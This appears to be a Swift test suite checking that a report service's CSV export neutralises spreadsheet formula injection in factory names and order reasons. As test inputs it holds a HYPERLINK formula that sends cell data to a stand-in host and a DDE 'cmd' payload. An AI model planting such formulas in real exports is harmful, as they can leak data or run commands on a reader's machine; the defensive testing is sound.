import Foundation
import Testing
@testable import WeftAPI
import WeftCore
import WeftStore
import WeftTestSupport

/// CSV cells a spreadsheet would run as formulas: names and reasons come from other tenants,
/// so text cells starting with `=`, `+`, `-`, `@`, tab or CR get a leading `'` (OWASP), while
/// numbers, negative ones included, stay numbers.
@Suite("Reports: CSV formula cells are neutralised")
struct ReportCSVTests {
    @Test func textCellsAreNeutralisedNumbersAreNot() {
        #expect(CSVWriter.textField("=1+1") == "'=1+1")
        #expect(CSVWriter.textField("+41 22 000") == "'+41 22 000")
        #expect(CSVWriter.textField("-2+3") == "'-2+3")
        #expect(CSVWriter.textField("@SUM(A1:A9)") == "'@SUM(A1:A9)")
        #expect(CSVWriter.textField("\tTabbed") == "'\tTabbed")
        // CR forces quotes as well; the quote mark goes inside them.
        #expect(CSVWriter.textField("\rReturn") == "\"'\rReturn\"")
        #expect(CSVWriter.textField("=HYPERLINK(\"http://x.example/?\"&A1,\"go\")") == "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"go\"\")\"")
        #expect(CSVWriter.textField("=a,b") == "\"'=a,b\"")
        // Only the first character counts; everything else is plain RFC 4180.
        #expect(CSVWriter.textField("A=B-C") == "A=B-C")
        #expect(CSVWriter.textField(" =padded") == " =padded")
        #expect(CSVWriter.textField("") == "")
        #expect(CSVWriter.textField("Łódź 工厂") == "Łódź 工厂")

        var writer = CSVWriter(header: ["name", "value", "share"])
        writer.row([.text("-Minus Works"), .number(-42), .number(-0.25)])
        writer.row([.text("@home"), .number(Int64?.none), .number(Double?.none)])
        #expect(writer.text == "name,value,share\r\n'-Minus Works,-42,-0.25\r\n'@home,,\r\n")
    }

    @Test func awkwardFactoryNamesAndReasonsInReports() async throws {
        let server = try await TestServer.start()
        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+Plus Fab", "-Minus Fab", "@At Fab", "\tTab Fab", "\rReturn Fab",
                     "Hyphen-Middle Fab", "Quote \"Me\", Ltd"]
        let (network, _) = try await NetworkFixture.seed(server.pool, names.enumerated().map { index, name in
            NetworkFixture.FactorySpec(name: name, slots: [(1, 10 * (index + 1), 5)])
        })
        // A short order whose stored reason Weft does not classify: reported as its own text.
        try await server.pool.query("""
            INSERT INTO orders (broker_id, capability, quantity, due_date, release_date, status, allocated_units, unscheduled_reason)
            VALUES ($1, 'pcb.fab', 5, $2, $2, 'unscheduled', 0, '=cmd|'' /C calc''!A0')
            """, network.brokerID, NetworkFixture.today.adding(days: 3))
        let admin = try await server.issueKey(role: .admin)

        let text = try await ReportTests.get(server, "/v1/reports/utilization", key: admin, csv: true).text
        let rows = parseCSV(text)
        let byName = Dictionary(uniqueKeysWithValues: rows.dropFirst().map { ($0[1], $0) })
        // A spreadsheet shows each neutralised name as the text after the quote mark.
        for name in names {
            let expected = "=+-@\t\r".unicodeScalars.contains(name.unicodeScalars.first!) ? "'" + name : name
            let row = try #require(byName[expected], "\(name.debugDescription) is missing from \(text.debugDescription)")
            #expect(row.count == 12)
        }
        #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",CN-GD,true,1,1,10,0,10,0.0,0,\r\n"))
        #expect(text.contains(",'-Minus Fab,CN-GD,true,"))
        #expect(text.contains(",\"'\rReturn Fab\",CN-GD,true,"))
        #expect(text.contains(",Hyphen-Middle Fab,CN-GD,true,"))
        #expect(text.contains(",\"Quote \"\"Me\"\", Ltd\",CN-GD,true,"))

        let orders = parseCSV(try await ReportTests.get(server, "/v1/reports/orders", key: admin, csv: true).text)
        #expect(orders.first { $0[0] == "unserved_reason" && $0[1] == "other" && $0[2] == "description" }?[3] == "'=cmd|' /C calc'!A0")
        #expect(orders.first { $0[0] == "unserved_reason" && $0[1] == "other" && $0[2] == "units" }?[3] == "5")
        try await server.stop()
    }
}
